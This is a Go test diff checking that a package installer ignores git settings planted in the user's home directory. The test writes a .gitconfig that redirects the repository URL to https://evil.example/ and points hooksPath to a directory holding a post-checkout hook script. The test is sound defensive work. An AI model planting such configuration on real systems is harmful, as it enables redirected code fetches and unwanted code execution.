@@ -44,6 +44,38 @@ func repository(t *testing.T, l *local, content map[string]string) (commit func(
 	return commit
 }
 
+// TestReal_GitOwnSettings: what a server of the member wrote into the home leads no address elsewhere and runs nothing.
+func TestReal_GitOwnSettings(t *testing.T) {
+	_, l := here(t, "git")
+	commit := repository(t, &l, nil)
+	sha := commit(map[string]string{"server.py": "print(1)"})
+	l.env = append(l.env, "HOME="+l.root)
+	ran := filepath.Join(l.root, "ran")
+	hooks := filepath.Join(l.root, "hooks")
+	if err := os.MkdirAll(hooks, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	for file, content := range map[string]string{
+		filepath.Join(l.root, ".gitconfig"):   "[core]\n\thooksPath = " + hooks + "\n[url \"https://evil.example/\"]\n\tinsteadOf = " + repo + "\n",
+		filepath.Join(hooks, "post-checkout"): "#!/bin/sh\ntouch " + ran + "\n",
+	} {
+		if err := os.WriteFile(file, []byte(content), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	in := install.New(l, l, install.Options{Workspace: l.root})
+	p, err := in.Resolve(t.Context(), thread, member, schemas.Package{Kind: schemas.Git, Spec: repo, Start: []string{"python3", "server.py"}})
+	if err != nil || p.Version != sha {
+		t.Fatalf("%v %+v", err, p)
+	}
+	if log, err := in.Install(t.Context(), thread, member, p, nil); err != nil {
+		t.Fatalf("%v\n%s", err, log.Text)
+	}
+	if _, err := os.Stat(ran); err == nil {
+		t.Error("a hook of the home ran")
+	}
+}
+
 const repo = "https://git.example/acme/weather.git"
 
 func TestReal_GitNode(t *testing.T) {
